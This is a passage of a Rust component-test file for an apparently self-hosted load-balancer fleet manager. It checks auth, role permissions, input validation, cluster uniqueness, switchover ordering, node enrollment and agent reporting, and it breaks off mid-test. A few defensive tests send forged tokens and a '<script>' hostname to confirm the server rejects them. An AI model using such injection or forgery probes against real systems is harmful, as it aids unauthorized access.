//! Component tests: the real server on port 0 against a real SQLite file, driven over HTTP.

#![allow(clippy::unwrap_used)]

mod common;

use std::time::{Duration, Instant};

use common::{cluster_spec, TestServer};
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

#[tokio::test]
async fn everything_but_healthz_needs_auth() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let (s, v) = srv.call(Method::GET, "/healthz", None, None).await;
    assert_eq!((s, v["status"].as_str()), (StatusCode::OK, Some("ok")));
    for (method, path) in [
        (Method::GET, "/api/v1/nodes"),
        (Method::GET, "/api/v1/clusters"),
        (Method::PUT, "/api/v1/clusters/ext"),
        (Method::GET, "/api/v1/audit"),
        (Method::GET, "/api/v1/audit/verify"),
        (Method::GET, "/api/v1/events"),
        (Method::GET, "/metrics"),
        (Method::GET, "/api/v1/alerts"),
        (Method::POST, "/api/v1/nodes/1/approve"),
        (Method::GET, "/api/v1/agent/role"),
        (Method::POST, "/api/v1/agent/report"),
    ] {
        let (s, v) = srv.call(method.clone(), path, None, Some(json!({}))).await;
        assert_eq!(s, StatusCode::UNAUTHORIZED, "{method} {path}: {v}");
        assert_eq!(v["error"]["code"], "unauthorized");
        let (s, _) = srv
            .call(
                method.clone(),
                path,
                Some("lbf_tok_forged"),
                Some(json!({})),
            )
            .await;
        assert_eq!(
            s,
            StatusCode::UNAUTHORIZED,
            "{method} {path} with a forged token"
        );
    }
    let (s, body) = srv.get("/metrics", &srv.tokens.viewer).await;
    assert_eq!(s, StatusCode::OK);
    let text = body.as_str().unwrap();
    assert!(text.contains("lbfleet_nodes{state=\"ready\"} 0"), "{text}");
    assert!(
        text.contains("lbfleet_audit_rows 6"),
        "seeding wrote 3 users + 3 tokens: {text}"
    );
}

#[tokio::test]
async fn viewer_reads_but_cannot_change_anything() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let (v, op) = (&srv.tokens.viewer, &srv.tokens.operator);
    assert_eq!(
        srv.put("/api/v1/clusters/ext", op, cluster_spec(51, "198.18.0.10"))
            .await
            .0,
        StatusCode::CREATED
    );
    let audit_before = srv.audit_len().await;

    let (s, body) = srv
        .put("/api/v1/clusters/int", v, cluster_spec(52, "198.18.0.11"))
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "{body}");
    assert!(body["error"]["message"]
        .as_str()
        .unwrap()
        .contains("operator role"));
    assert_eq!(
        srv.delete("/api/v1/clusters/ext", v).await.0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        srv.post("/api/v1/nodes", v, json!({"mac": "52:54:00:00:00:01"}))
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        srv.post("/api/v1/clusters/ext/switchover", v, json!({}))
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    let rs = "/api/v1/clusters/ext/services/tcp:198.18.0.10:80/real-servers/198.18.2.1:8080";
    assert_eq!(
        srv.post(&format!("{rs}/drain"), v, json!({})).await.0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        srv.put(&format!("{rs}/weight"), v, json!({"weight": 5}))
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    // Operators cannot manage users; admins can.
    assert_eq!(srv.get("/api/v1/users", op).await.0, StatusCode::FORBIDDEN);
    assert_eq!(
        srv.get("/api/v1/users", &srv.tokens.admin).await.0,
        StatusCode::OK
    );

    assert_eq!(srv.get("/api/v1/clusters/ext", v).await.0, StatusCode::OK);
    assert_eq!(
        srv.get("/api/v1/clusters/int", v).await.0,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        srv.audit_len().await,
        audit_before,
        "refused requests must not write audit rows"
    );
    let (_, c) = srv.get("/api/v1/clusters/ext", v).await;
    assert_eq!(c["spec"]["services"][0]["real_servers"][0]["enabled"], true);
    assert_eq!(c["spec"]["services"][0]["real_servers"][0]["weight"], 1);
}

#[tokio::test]
async fn bad_payloads_get_4xx_and_change_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let op = srv.tokens.operator.clone();
    assert_eq!(
        srv.put("/api/v1/clusters/ext", &op, cluster_spec(51, "198.18.0.10"))
            .await
            .0,
        StatusCode::CREATED
    );
    let (_, before) = srv.get("/api/v1/clusters/ext", &op).await;
    let audit_before = srv.audit_len().await;

    // Not JSON at all.
    let resp = srv
        .http
        .put(srv.url("/api/v1/clusters/ext"))
        .bearer_auth(&op)
        .header("content-type", "application/json")
        .body("{not json")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::BAD_REQUEST);
    let body: Value = resp.json().await.unwrap();
    assert_eq!(body["error"]["code"], "bad_request");

    // A typo in a field name.
    let mut typo = cluster_spec(51, "198.18.0.10");
    typo["vipz"] = json!([]);
    let (s, body) = srv.put("/api/v1/clusters/ext", &op, typo).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(body["error"]["message"].as_str().unwrap().contains("vipz"));

    // Valid JSON, invalid values: every bad field is named.
    let mut bad = cluster_spec(0, "198.18.0.10");
    bad["services"][0]["scheduler"] = json!("wrr");
    bad["services"][0]["real_servers"][1]["weight"] = json!(70000);
    bad["advert_interval_ms"] = json!(15);
    let (s, body) = srv.put("/api/v1/clusters/ext", &op, bad).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    let fields: Vec<&str> = body["error"]["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["field"].as_str().unwrap())
        .collect();
    assert_eq!(
        fields,
        vec![
            "vrid",
            "advert_interval_ms",
            "services[0].real_servers[1].weight"
        ]
    );

    // Unknown scheduler name.
    let mut bad = cluster_spec(51, "198.18.0.10");
    bad["services"][0]["scheduler"] = json!("roundrobin");
    assert_eq!(
        srv.put("/api/v1/clusters/ext", &op, bad).await.0,
        StatusCode::UNPROCESSABLE_ENTITY
    );

    // Bad names and references.
    assert_eq!(
        srv.put(
            "/api/v1/clusters/Bad_Name",
            &op,
            cluster_spec(52, "198.18.0.11")
        )
        .await
        .0,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    assert_eq!(
        srv.post("/api/v1/nodes", &op, json!({"mac": "not-a-mac"}))
            .await
            .0,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    assert_eq!(
        srv.post(
            "/api/v1/nodes",
            &op,
            json!({"mac": "52:54:00:00:00:01", "hostname": "<script>"})
        )
        .await
        .0,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    let rs = "/api/v1/clusters/ext/services/tcp:198.18.0.10:80/real-servers/198.18.2.1:8080";
    assert_eq!(
        srv.put(&format!("{rs}/weight"), &op, json!({"weight": 65536}))
            .await
            .0,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    assert_eq!(
        srv.put(&format!("{rs}/weight"), &op, json!({"weight": -1}))
            .await
            .0,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    assert_eq!(
        srv.post(
            "/api/v1/clusters/ext/services/tcp:198.18.0.10/real-servers",
            &op,
            json!({"address": "198.18.2.9", "port": 80})
        )
        .await
        .0,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    assert_eq!(
        srv.post(
            "/api/v1/clusters/ext/services/tcp:198.18.0.10:81/real-servers",
            &op,
            json!({"address": "198.18.2.9", "port": 80})
        )
        .await
        .0,
        StatusCode::NOT_FOUND
    );
    // DR cannot remap ports.
    assert_eq!(
        srv.post(
            "/api/v1/clusters/ext/services/udp:198.18.0.10:53/real-servers",
            &op,
            json!({"address": "198.18.2.9", "port": 5353})
        )
        .await
        .0,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    assert_eq!(
        srv.get("/api/v1/audit?limit=0", &op).await.0,
        StatusCode::BAD_REQUEST
    );
    assert_eq!(
        srv.get("/api/v1/audit?since=yesterday", &op).await.0,
        StatusCode::BAD_REQUEST
    );
    assert_eq!(
        srv.get("/api/v1/nodes?state=sleeping", &op).await.0,
        StatusCode::UNPROCESSABLE_ENTITY
    );

    let (_, after) = srv.get("/api/v1/clusters/ext", &op).await;
    assert_eq!(before, after, "a rejected request must change nothing");
    assert_eq!(srv.audit_len().await, audit_before);
    let (_, nodes) = srv.get("/api/v1/nodes", &op).await;
    assert_eq!(nodes["nodes"].as_array().unwrap().len(), 0);
}

#[tokio::test]
async fn fleet_wide_uniqueness_is_enforced_with_named_conflicts() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let op = srv.tokens.operator.clone();
    assert_eq!(
        srv.put("/api/v1/clusters/ext", &op, cluster_spec(51, "198.18.0.10"))
            .await
            .0,
        StatusCode::CREATED
    );

    // Same VRID on the same interface.
    let (s, body) = srv
        .put("/api/v1/clusters/int", &op, cluster_spec(51, "198.18.0.11"))
        .await;
    assert_eq!(s, StatusCode::CONFLICT, "{body}");
    assert!(body["error"]["message"]
        .as_str()
        .unwrap()
        .contains("VRID 51 on interface eth0 is already used by cluster \"ext\""));
    // Same VRID on another interface is fine.
    let mut other_if = cluster_spec(51, "198.18.0.11");
    other_if["interface"] = json!("eth1");
    assert_eq!(
        srv.put("/api/v1/clusters/int", &op, other_if).await.0,
        StatusCode::CREATED
    );

    // The same VIP:port:protocol in another cluster.
    let mut dup = cluster_spec(53, "198.18.0.12");
    dup["vips"] = json!(["198.18.0.12/32", "198.18.0.10/32"]);
    dup["services"][0]["vip"] = json!("198.18.0.10");
    let (s, body) = srv.put("/api/v1/clusters/third", &op, dup).await;
    assert_eq!(s, StatusCode::CONFLICT, "{body}");
    let msg = body["error"]["message"].as_str().unwrap();
    assert!(
        msg.contains("VIP 198.18.0.10 already belongs to cluster \"ext\""),
        "{msg}"
    );
    assert!(
        msg.contains("service tcp:198.18.0.10:80 already exists in cluster \"ext\""),
        "{msg}"
    );
    assert_eq!(
        srv.get("/api/v1/clusters/third", &op).await.0,
        StatusCode::NOT_FOUND
    );

    // Re-putting the same spec is a no-op (no audit row, no generation bump).
    let audit = srv.audit_len().await;
    let (s, body) = srv
        .put("/api/v1/clusters/ext", &op, cluster_spec(51, "198.18.0.10"))
        .await;
    assert_eq!(
        (s, body["outcome"].as_str()),
        (StatusCode::OK, Some("unchanged"))
    );
    assert_eq!(srv.audit_len().await, audit);

    // A node belongs to one cluster at most: assigning elsewhere moves it.
    srv.post(
        "/api/v1/nodes",
        &op,
        json!({"mac": "52:54:00:00:00:01", "hostname": "lb-01"}),
    )
    .await;
    assert_eq!(
        srv.post(
            "/api/v1/nodes/lb-01/assign",
            &op,
            json!({"cluster": "ext", "role": "active"})
        )
        .await
        .0,
        StatusCode::OK
    );
    let (s, n) = srv
        .post(
            "/api/v1/nodes/lb-01/assign",
            &op,
            json!({"cluster": "int", "role": "backup"}),
        )
        .await;
    assert_eq!(
        (s, n["cluster"].as_str()),
        (StatusCode::OK, Some("int")),
        "{n}"
    );
    let (_, ext) = srv.get("/api/v1/clusters/ext", &op).await;
    assert_eq!(ext["members"].as_array().unwrap().len(), 0);
    // A cluster with members cannot be deleted.
    let (s, body) = srv.delete("/api/v1/clusters/int", &op).await;
    assert_eq!(s, StatusCode::CONFLICT, "{body}");
    assert_eq!(
        srv.delete("/api/v1/clusters/ext", &op).await.0,
        StatusCode::NO_CONTENT
    );
}

#[tokio::test]
async fn alerts_are_served_and_exported_in_metrics() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let op = srv.tokens.operator.clone();
    let (s, v) = srv.get("/api/v1/alerts", &srv.tokens.viewer).await;
    assert_eq!(
        (s, v["alerts"].as_array().map(Vec::len)),
        (StatusCode::OK, Some(0)),
        "{v}"
    );
    srv.put("/api/v1/clusters/ext", &op, cluster_spec(51, "198.18.0.10"))
        .await;
    srv.post(
        "/api/v1/nodes",
        &op,
        json!({"mac": "52:54:00:00:00:01", "hostname": "lb-01"}),
    )
    .await;
    let (s, a) = srv
        .post(
            "/api/v1/nodes/lb-01/assign",
            &op,
            json!({"cluster": "ext", "role": "active"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{a}");
    let (s, v) = srv.get("/api/v1/alerts", &srv.tokens.viewer).await;
    assert_eq!(s, StatusCode::OK);
    let kinds: Vec<(&str, &str)> = v["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| (a["kind"].as_str().unwrap(), a["level"].as_str().unwrap()))
        .collect();
    assert_eq!(
        kinds,
        [
            ("no_master", "crit"),
            ("not_reporting", "warn"),
            ("generation_lag", "warn")
        ],
        "{v}"
    );
    assert_eq!(v["alerts"][0]["cluster"], "ext");
    assert_eq!(v["alerts"][1]["node"], "lb-01");
    let (s, body) = srv.get("/metrics", &srv.tokens.viewer).await;
    assert_eq!(s, StatusCode::OK);
    let text = body.as_str().unwrap();
    for line in [
        "lbfleet_alerts{kind=\"no_master\",level=\"crit\"} 1",
        "lbfleet_alerts{kind=\"split_brain\",level=\"crit\"} 0",
        "lbfleet_alerts{kind=\"not_reporting\",level=\"warn\"} 1",
        "lbfleet_alerts{kind=\"hardware_waiting\",level=\"info\"} 0",
    ] {
        assert!(text.contains(line), "{line} missing from {text}");
    }
}

#[tokio::test]
async fn one_active_per_cluster_and_switchover_raises_before_lowering() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let op = srv.tokens.operator.clone();
    srv.put("/api/v1/clusters/ext", &op, cluster_spec(51, "198.18.0.10"))
        .await;
    for (mac, name) in [
        ("52:54:00:00:00:01", "lb-01"),
        ("52:54:00:00:00:02", "lb-02"),
    ] {
        assert_eq!(
            srv.post("/api/v1/nodes", &op, json!({"mac": mac, "hostname": name}))
                .await
                .0,
            StatusCode::CREATED
        );
    }
    // A discovered-but-unapproved node cannot be assigned; a ready one can.
    let (s, a) = srv
        .post(
            "/api/v1/nodes/lb-01/assign",
            &op,
            json!({"cluster": "ext", "role": "active"}),
        )
        .await;
    assert_eq!(
        (s, a["state"].as_str(), a["priority"].as_i64()),
        (StatusCode::OK, Some("assigned"), Some(150)),
        "{a}"
    );
    let audit = srv.audit_len().await;
    let (s, body) = srv
        .post(
            "/api/v1/nodes/lb-02/assign",
            &op,
            json!({"cluster": "ext", "role": "active"}),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT, "{body}");
    assert!(body["error"]["message"]
        .as_str()
        .unwrap()
        .contains("already has an active node (lb-01)"));
    let (_, b) = srv.get("/api/v1/nodes/lb-02", &op).await;
    assert_eq!(
        (b["state"].as_str(), b["cluster"].as_str()),
        (Some("ready"), None),
        "rejected assign changed the node"
    );
    assert_eq!(srv.audit_len().await, audit);
    // A backup may not outrank the active.
    let (s, _) = srv
        .post(
            "/api/v1/nodes/lb-02/assign",
            &op,
            json!({"cluster": "ext", "role": "backup", "priority": 200}),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT);
    let (s, b) = srv
        .post(
            "/api/v1/nodes/lb-02/assign",
            &op,
            json!({"cluster": "ext", "role": "backup"}),
        )
        .await;
    assert_eq!((s, b["priority"].as_i64()), (StatusCode::OK, Some(100)));

    let gen = |v: &Value| v["generation"].as_u64().unwrap();
    let (_, a_before) = srv.get("/api/v1/nodes/lb-01/role", &op).await;
    let (_, b_before) = srv.get("/api/v1/nodes/lb-02/role", &op).await;
    assert_eq!(a_before["vrrp"]["priority"], 150);
    assert_eq!(b_before["vrrp"]["priority"], 100);

    let (s, sw) = srv
        .post("/api/v1/clusters/ext/switchover", &op, json!({}))
        .await;
    assert_eq!(s, StatusCode::OK, "{sw}");
    assert_eq!(
        (sw["new_active"].as_str(), sw["old_active"].as_str()),
        (Some("lb-02"), Some("lb-01"))
    );
    let (_, a_after) = srv.get("/api/v1/nodes/lb-01/role", &op).await;
    let (_, b_after) = srv.get("/api/v1/nodes/lb-02/role", &op).await;
    assert_eq!(
        (
            b_after["role"].as_str(),
            b_after["vrrp"]["priority"].as_u64()
        ),
        (Some("active"), Some(150))
    );
    assert_eq!(
        (
            a_after["role"].as_str(),
            a_after["vrrp"]["priority"].as_u64()
        ),
        (Some("backup"), Some(100))
    );
    // The raised node's document is issued first: its generation is lower than the lowered node's.
    assert!(gen(&b_after) > gen(&b_before) && gen(&a_after) > gen(&a_before));
    assert!(
        gen(&b_after) < gen(&a_after),
        "raise the backup first, then lower the active: {b_after} {a_after}"
    );
    assert_eq!(sw["new_active_generation"].as_u64(), Some(gen(&b_after)));

    let (_, audit) = srv
        .get("/api/v1/audit?action=cluster.switchover", &op)
        .await;
    let entry = &audit["entries"][0];
    assert_eq!(
        (entry["actor"].as_str(), entry["target"].as_str()),
        (Some("oper"), Some("cluster:ext"))
    );
    assert_eq!(entry["before"]["active"], "lb-01");
    assert_eq!(entry["after"]["new_active"], "lb-02");

    // No backup left to promote after unassigning it.
    srv.post("/api/v1/nodes/lb-01/unassign", &op, json!({}))
        .await;
    let (s, body) = srv
        .post("/api/v1/clusters/ext/switchover", &op, json!({}))
        .await;
    assert_eq!(s, StatusCode::CONFLICT, "{body}");
}

#[tokio::test]
async fn real_server_endpoints_touch_only_that_server() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let op = srv.tokens.operator.clone();
    srv.put("/api/v1/clusters/ext", &op, cluster_spec(51, "198.18.0.10"))
        .await;
    let (_, before) = srv.get("/api/v1/clusters/ext", &op).await;
    let svc = "/api/v1/clusters/ext/services/tcp:198.18.0.10:80/real-servers";

    let (s, rs) = srv
        .put(
            &format!("{svc}/198.18.2.2:8080/weight"),
            &op,
            json!({"weight": 7}),
        )
        .await;
    assert_eq!(
        (s, rs["weight"].as_u64()),
        (StatusCode::OK, Some(7)),
        "{rs}"
    );
    let (_, after) = srv.get("/api/v1/clusters/ext", &op).await;
    let mut expected = before["spec"].clone();
    expected["services"][0]["real_servers"][1]["weight"] = json!(7);
    assert_eq!(after["spec"], expected, "only the one weight may change");

    assert_eq!(
        srv.post(&format!("{svc}/198.18.2.1:8080/drain"), &op, json!({}))
            .await
            .0,
        StatusCode::OK
    );
    let (_, c) = srv.get("/api/v1/clusters/ext", &op).await;
    assert_eq!(
        c["spec"]["services"][0]["real_servers"][0]["enabled"],
        false
    );
    // A declarative PUT that omits `enabled` keeps the server drained.
    assert_eq!(
        srv.put("/api/v1/clusters/ext", &op, cluster_spec(51, "198.18.0.10"))
            .await
            .0,
        StatusCode::OK
    );
    let (_, c) = srv.get("/api/v1/clusters/ext", &op).await;
    assert_eq!(
        c["spec"]["services"][0]["real_servers"][0]["enabled"],
        false
    );
    assert_eq!(
        c["spec"]["services"][0]["real_servers"][1]["weight"], 2,
        "the PUT restored the declared weight"
    );
    assert_eq!(
        srv.post(&format!("{svc}/198.18.2.1:8080/enable"), &op, json!({}))
            .await
            .0,
        StatusCode::OK
    );

    let (s, _) = srv
        .post(
            svc,
            &op,
            json!({"address": "198.18.2.9", "port": 8080, "weight": 3}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED);
    assert_eq!(
        srv.post(svc, &op, json!({"address": "198.18.2.9", "port": 8080}))
            .await
            .0,
        StatusCode::CONFLICT
    );
    assert_eq!(
        srv.delete(&format!("{svc}/198.18.2.1:8080"), &op).await.0,
        StatusCode::NO_CONTENT
    );
    assert_eq!(
        srv.delete(&format!("{svc}/198.18.2.1:8080"), &op).await.0,
        StatusCode::NOT_FOUND
    );
    let (_, c) = srv.get("/api/v1/clusters/ext", &op).await;
    let addrs: Vec<&str> = c["spec"]["services"][0]["real_servers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["address"].as_str().unwrap())
        .collect();
    assert_eq!(addrs, vec!["198.18.2.2", "198.18.2.9"]);
    assert_eq!(
        c["spec"]["services"][1], before["spec"]["services"][1],
        "the other service is untouched"
    );

    let (_, audit) = srv
        .get(
            "/api/v1/audit?target=cluster:ext/service:tcp:198.18.0.10:80",
            &op,
        )
        .await;
    let actions: Vec<&str> = audit["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(
        actions,
        vec![
            "real_server.remove",
            "real_server.add",
            "real_server.enable",
            "real_server.drain",
            "real_server.weight"
        ]
    );
}

#[tokio::test]
async fn node_lifecycle_enrollment_reports_and_serving() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let op = srv.tokens.operator.clone();
    srv.put("/api/v1/clusters/ext", &op, cluster_spec(51, "198.18.0.10"))
        .await;

    // Hardware found by the boot services shows up as discovered; it can be approved and named.
    let fleet = lbfleet_server::open_fleet(&lbfleet_server::ServerConfig::with_database(
        common::db_url(&srv.db_path),
    ))
    .await
    .unwrap();
    let id = fleet.discover("52:54:00:AA:00:01").await.unwrap();
    assert_eq!(
        fleet.discover("52-54-00-aa-00-01").await.unwrap(),
        id,
        "discovery is idempotent"
    );
    fleet.close().await;
    let (_, d) = srv.get("/api/v1/nodes?state=discovered", &op).await;
    assert_eq!(d["nodes"][0]["mac"], "52:54:00:aa:00:01");
    assert_eq!(
        srv.post(
            "/api/v1/nodes/52:54:00:aa:00:01/assign",
            &op,
            json!({"cluster": "ext", "role": "active"})
        )
        .await
        .0,
        StatusCode::CONFLICT
    );
    let (s, n) = srv
        .post(
            &format!("/api/v1/nodes/{id}/approve"),
            &op,
            json!({"hostname": "lb-01"}),
        )
        .await;
    assert_eq!(
        (s, n["state"].as_str(), n["hostname"].as_str()),
        (StatusCode::OK, Some("ready"), Some("lb-01")),
        "{n}"
    );
    assert_eq!(
        srv.post("/api/v1/nodes/lb-01/approve", &op, json!({}))
            .await
            .0,
        StatusCode::CONFLICT,
        "approve twice"
    );

    // Enrollment: a token works once, only for its own MAC.
    let (_, t) = srv
        .post("/api/v1/nodes/lb-01/enrollment-token", &op, json!({}))
        .await;
    let token = t["token"].as_str().unwrap().to_owned();
    let enroll = |token: String, mac: &'static str| {
        let srv = &srv;
        async move {
            srv.call(
                Method::POST,
                "/api/v1/agent/enroll",
                None,
                Some(json!({"token": token, "mac": mac})),
            )
            .await
        }
    };
    assert_eq!(
        enroll("lbf_enr_bogus".into(), "52:54:00:aa:00:01").await.0,
        StatusCode::UNAUTHORIZED
    );
    let (s, e) = enroll(token.clone(), "52:54:00:aa:00:01").await;
    assert_eq!(s, StatusCode::OK, "{e}");
    let cred = e["credential"].as_str().unwrap().to_owned();
    assert!(cred.starts_with("lbf_node_"));
    assert_eq!(
        enroll(token, "52:54:00:aa:00:01").await.0,
        StatusCode::UNAUTHORIZED,
        "single use"
    );
    let (_, t2) = srv
        .post("/api/v1/nodes/lb-01/enrollment-token", &op, json!({}))
        .await;
    assert_eq!(
        enroll(
            t2["token"].as_str().unwrap().to_owned(),
            "52:54:00:aa:00:99"
        )
        .await
        .0,
        StatusCode::UNAUTHORIZED,
        "wrong MAC"
    );
    // Node credentials are not admin credentials.
    assert_eq!(
        srv.get("/api/v1/nodes", &cred).await.0,
        StatusCode::FORBIDDEN
    );

    // Unassigned: an empty role.
    let (s, role) = srv.get("/api/v1/agent/role?after=0", &cred).await;
    assert_eq!(
        (
            s,
            role["cluster"].clone(),
            role["services"].as_array().map(Vec::len)
        ),
        (StatusCode::OK, Value::Null, Some(0))
    );

    srv.post(
        "/api/v1/nodes/lb-01/assign",
        &op,
        json!({"cluster": "ext", "role": "active"}),
    )
    .await;
    let (_, role) = srv.get("/api/v1/agent/role?after=0", &cred).await;
    assert_eq!(role["cluster"], "ext");
    assert_eq!(role["vrrp"]["vrid"], 51);
    assert_eq!(role["services"][0]["real_servers"][1]["weight"], 2);
    let g = role["generation"].as_u64().unwrap();

    // A report from the future is refused; the real one moves the node to serving.
    let (s, _) = srv
        .post(
            "/api/v1/agent/report",
            &cred,
            json!({"applied_generation": g + 1}),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    // So is one whose self-description is not an address / a version; nothing of it is stored.
    let (s, body) = srv
        .post(
            "/api/v1/agent/report",
            &cred,
            json!({"applied_generation": g, "address": "lb-01.example", "image_version": "a b"}),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    let text = body.to_string();
    assert!(
        text.contains("address") && text.contains("image_version"),
        "{body}"
    );
    let (_, n) = srv.get("/api/v1/nodes/lb-01", &op).await;
    assert_eq!(n["applied_generation"], 0, "{n}");
    let report = json!({"applied_generation": g, "vrrp_state": "master", "agent_version": "0.1.0",
        "services": [{"vip": "198.18.0.10", "port": 80, "protocol": "tcp",
                      "real_servers": [{"address": "198.18.2.1", "port": 8080, "healthy": true}]}]});
    assert_eq!(
        srv.post("/api/v1/agent/report", &cred, report.clone())
            .await
            .0,
        StatusCode::NO_CONTENT
    );
    let (_, n) = srv.get("/api/v1/nodes/lb-01", &op).await;
    assert_eq!(
        (
            n["state"].as_str(),
            n["vrrp_state"].as_str(),
            n["in_sync"].as_bool()
        ),
        (Some("serving"), Some("master"), Some(true)),
        "{n}"
    );
    let mut flap = report.clone();
    flap["services"][0]["real_servers"][0]["healthy"] = json!(false);
    srv.post("/api/v1/agent/report", &cred, flap).await;
    let (_, ev) = srv.get("/api/v1/events?node=lb-01", &op).await;
    let kinds: Vec<&str> = ev["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        vec!["health", "serving", "vrrp", "enrolled", "discovered"],
        "{ev}"
    );

    // Reports carry the agent's recent VRRP transitions with reasons: each becomes one event, once.
    let mut with_transitions = report.clone();
    with_transitions["vrrp_state"] = json!("backup");
    with_transitions["vrrp_master"] = json!("198.18.0.3");
    with_transitions["vrrp_transitions"] = json!([
        {"from": "init", "to": "master", "reason": "startup", "at_ms": 1_000},
        {"from": "master", "to": "backup", "reason": "higher priority advert from 198.18.0.3 (priority 200)",
         "at_ms": 2_000}]);
    for _ in 0..2 {
        assert_eq!(
            srv.post("/api/v1/agent/report", &cred, with_transitions.clone())
                .await
                .0,
            StatusCode::NO_CONTENT
        );
    }
    let (_, ev) = srv.get("/api/v1/events?node=lb-01", &op).await;
    let vrrp: Vec<&str> = ev["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "vrrp")
        .map(|e| e["message"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(
        vrrp,
        vec![
            "VRRP master -> backup: higher priority advert from 198.18.0.3 (priority 200)",
            "VRRP init -> master: startup",
            "VRRP unknown -> master"
        ],
        "{ev}"
    );

    // Retire: credentials stop working, the history stays.
    let (s, n) = srv.post("/api/v1/nodes/lb-01/retire", &op, json!({})).await;
    assert_eq!(
        (s, n["state"].as_str(), n["cluster"].as_str()),
        (StatusCode::OK, Some("retired"), None)
    );
    assert_eq!(
        srv.get("/api/v1/agent/role", &cred).await.0,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        srv.post("/api/v1/nodes/lb-01/enrollment-token", &op, json!({}))
            .await
            .0,
        StatusCode::CONFLICT
    );
    let (_, audit) = srv.get("/api/v1/audit?target=node:", &op).await;
    let actions: Vec<&str> = audit["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    for a in [
        "node.discover",
        "node.approve",
        "node.enroll",
        "node.assign",
        "node.serving",
        "node.retire",
    ] {
        assert!(actions.contains(&a), "{a} missing from {actions:?}");
    }
}

#[tokio::test]
/// The wake bound here has a margin a loaded CI machine meets; the real latency is measured by
/// `make bench-longpoll` (docs/benchmarks.md).
async fn long_poll_wakes_within_a_second_of_a_change() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let op = srv.tokens.operator.clone();
    srv.put("/api/v1/clusters/ext", &op, cluster_spec(51, "198.18.0.10"))
        .await;
    let cred = srv.enrolled_node("52:54:00:00:00:01", "lb-01").await;
    srv.post(
        "/api/v1/nodes/lb-01/assign",
        &op,
        json!({"cluster": "ext", "role": "active"}),
    )
    .await;
    let (_, role) = srv.get("/api/v1/agent/role", &cred).await;
    let mut generation = role["generation"].as_u64().unwrap();

    // A poll with nothing new waits for the full `wait` and answers 204.
    let t = Instant::now();
    let (s, _) = srv
        .get(
            &format!("/api/v1/agent/role?after={generation}&wait=1"),
            &cred,
        )
        .await;
    assert_eq!(s, StatusCode::NO_CONTENT);
    assert!(
        t.elapsed() >= Duration::from_millis(950),
        "returned early: {:?}",
        t.elapsed()
    );

    let mut worst = Duration::ZERO;
    for weight in 10..15u32 {
        let url = srv.url(&format!("/api/v1/agent/role?after={generation}"));
        let poll = {
            let http = srv.http.clone();
            let cred = cred.clone();
            tokio::spawn(async move {
                let resp = http.get(url).bearer_auth(cred).send().await.unwrap();
                let done = Instant::now();
                (resp.status(), resp.json::<Value>().await.unwrap(), done)
            })
        };
        // Wait until the poll is parked on the server (a change before the wait begins is caught by the
        // generation check; waiting for the parked poll makes the test measure the wake path).
        let parked = Instant::now();
        loop {
            let (_, body) = srv.get("/metrics", &srv.tokens.viewer).await;
            if body
                .as_str()
                .unwrap_or_default()
                .contains("lbfleet_role_pollers 1\n")
            {
                break;
            }
            assert!(
                parked.elapsed() < Duration::from_secs(10),
                "the poll never parked"
            );
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        assert!(!poll.is_finished(), "poll answered before any change");
        let (s, _) = srv.put(
            "/api/v1/clusters/ext/services/tcp:198.18.0.10:80/real-servers/198.18.2.1:8080/weight",
            &op,
            json!({"weight": weight}),
        )
        .await;
        // The change is committed (and fsynced) before the API answers; the wake is measured from there, so
        // the time the change itself takes on a loaded machine does not count. Pollers are woken right after
        // commit, usually before the API's own answer arrives (then the latency is zero).
        let t = Instant::now();
        assert_eq!(s, StatusCode::OK);
        let (status, doc, done) = poll.await.unwrap();
        assert_eq!(status, StatusCode::OK);
